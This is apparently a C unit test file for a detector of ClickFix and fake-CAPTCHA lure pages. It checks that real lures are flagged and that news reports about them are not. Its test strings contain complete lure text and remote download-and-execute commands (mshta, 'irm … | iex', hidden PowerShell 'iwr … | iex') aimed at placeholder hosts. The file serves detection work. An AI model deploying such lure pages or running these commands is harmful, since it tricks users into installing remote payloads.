/*
 * test_lure - ClickFix / fake CAPTCHA instructions are lures; reports about them are not
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "heur/lure.h"

/* lure_hits - run heur_lure over a string */
static HITS *lure_hits(const char *text)
{
    HITS *h = hits_new();
    HEUR_CTX c = {.hits = h, .location = "2/verify.html"};
    heur_lure(&c, (const unsigned char *)text, strlen(text));
    return h;
}

static void test_normalize(void **state)
{
    (void)state;
    const char *in = "<p>Press <kbd>Windows</kbd> &plus; <kbd>R</kbd>,\n\n then  CTRL + V</p>";
    char out[128];
    lure_normalize((const unsigned char *)in, strlen(in), out, sizeof(out));
    assert_non_null(strstr(out, "press windows+r"));
    assert_non_null(strstr(out, "ctrl+v"));
    assert_null(strstr(out, "  "));
}

static void test_fake_captcha(void **state)
{
    (void)state;
    HITS *h = lure_hits("<h2>Verify you are human</h2><ol><li>Press Win + R</li><li>Press "
                        "Ctrl + V</li><li>Press Enter</li></ol><script>navigator.clipboard."
                        "writeText('mshta https://example.invalid/c')</script>");
    assert_true(hits_has(h, "LURE_RUN_COMMAND"));
    assert_true(hits_has(h, "LURE_FAKE_CAPTCHA"));
    assert_true(hits_has(h, "LURE_PASTED_COMMAND"));
    assert_string_equal(h->v[0].location, "2/verify.html");
    hits_free(h);
    h = lure_hits("To fix the display error open PowerShell as admin, paste the line below and "
                  "press Enter:\r\n  irm https://example.invalid/fix | iex");
    assert_true(hits_has(h, "LURE_RUN_COMMAND"));
    assert_true(hits_has(h, "LURE_PASTED_COMMAND"));
    hits_free(h);
    /* one reporting word on the lure page itself does not make it a report */
    h = lure_hits("<p>This check protects you from scams.</p><h2>Verify you are human</h2>"
                  "<li>Press Win + R</li><li>Press Ctrl + V</li><script>navigator.clipboard."
                  "writeText('mshta https://example.invalid/c')</script>");
    assert_true(hits_has(h, "LURE_FAKE_CAPTCHA"));
    assert_true(hits_has(h, "LURE_PASTED_COMMAND"));
    hits_free(h);
}

static void test_not_a_lure(void **state)
{
    (void)state;
    /* a newsletter reporting on the technique */
    HITS *h = lure_hits("This week the ClickFix campaign told victims to press Win+R and paste "
                        "powershell -w hidden -c iwr hxxps://evil[.]example | iex");
    assert_int_equal(h->n, 0);
    hits_free(h);
    /* keyboard shortcuts without a command to paste into the Run box */
    h = lure_hits("Tip: press Ctrl+V to paste the table into the spreadsheet, then save.");
    assert_int_equal(h->n, 0);
    hits_free(h);
    h = lure_hits("Our login page has a CAPTCHA now. Enjoy the newsletter.");
    assert_int_equal(h->n, 0);
    hits_free(h);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_normalize),
        cmocka_unit_test(test_fake_captcha),
        cmocka_unit_test(test_not_a_lure),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
